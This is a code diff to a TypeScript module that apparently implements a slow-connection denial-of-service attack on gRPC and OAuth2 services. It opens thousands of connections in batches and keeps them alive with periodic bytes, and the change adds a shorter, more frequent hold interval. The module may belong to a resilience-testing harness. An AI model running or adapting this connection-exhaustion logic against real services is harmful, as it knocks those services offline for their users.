@@ -9,14 +9,15 @@ interface Silence {
   /** Whether the TCP connection is all there is, where the listener speaks TLS. */
   readonly isBelowTls?: boolean;
   readonly says: (assault: Assault) => Buffer | null;
-  /** Sent every second afterwards. */
+  /** Sent every second afterwards, or oftener in the short form. */
   readonly then?: Buffer;
 }
 
 /** As many as the service takes. */
 const GRPC_CONNECTIONS = 4096;
 const OAUTH2_CONNECTIONS = 2048;
-const HOLD_SECONDS = [8, 1.5] as const;
+const HOLDS = [8, 2] as const;
+const HOLD_SECONDS = [1, 0.25] as const;
 const AT_ONCE = 128;
 
 function silence(attack: Omit<Attack, 'run'>, silent: Silence): Attack {
@@ -41,9 +42,9 @@ async function fallSilent(assault: Assault, silent: Silence): Promise<void> {
     peers.push(...(await Promise.all(Array.from({ length: some }, async () => await assault.connect(address)))));
     if (first !== null) for (const peer of peers.slice(-some)) peer.send(first);
   }
-  for (let seconds = assault.amount(...HOLD_SECONDS); seconds > 0; seconds -= 1) {
+  for (let left = assault.amount(...HOLDS); left > 0; left -= 1) {
     if (then !== undefined) for (const peer of peers) peer.send(then);
-    await assault.hold(Math.min(1, seconds));
+    await assault.hold(assault.amount(...HOLD_SECONDS));
   }
 }
 
